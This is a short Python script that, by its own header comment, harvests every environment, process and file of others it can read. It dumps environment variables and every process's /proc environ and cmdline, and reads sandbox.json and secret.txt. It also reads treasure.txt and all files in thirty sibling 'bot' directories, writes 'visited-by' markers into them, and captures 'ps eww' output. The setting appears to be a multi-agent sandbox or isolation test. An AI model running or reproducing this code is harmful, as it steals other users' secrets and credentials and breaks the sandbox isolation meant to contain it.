# Collects and prints every environment, memory and file of others that it can read.
import glob
import os
import subprocess

found = [str(dict(os.environ))]


def collect(path):
    try:
        with open(path, errors="replace") as file:
            found.append(file.read(65536))
    except OSError as error:
        found.append(f"({error.errno})")


for pattern in ("/proc/*/environ", "/proc/*/cmdline", "/proc/*/root/proc/1/environ"):
    for path in glob.glob(pattern):
        collect(path)
bots = os.path.dirname(os.environ["HOME"])
for name in ("sandbox.json", "pids/1.json", "secret.txt"):
    collect(f"{bots}/../{name}")
for bot in range(30):
    collect(f"{bots}/{bot}/treasure.txt")
    for path in glob.glob(f"{bots}/{bot}/*"):
        collect(path)
    try:
        open(f"{bots}/{bot}/visited-by-{os.environ['BOT_ID']}", "w").close()
    except OSError:
        pass
found.append(subprocess.run("ps -ef; ps eww -A", shell=True, capture_output=True, text=True, errors="replace").stdout)
print("\n".join(found))
print("finished")
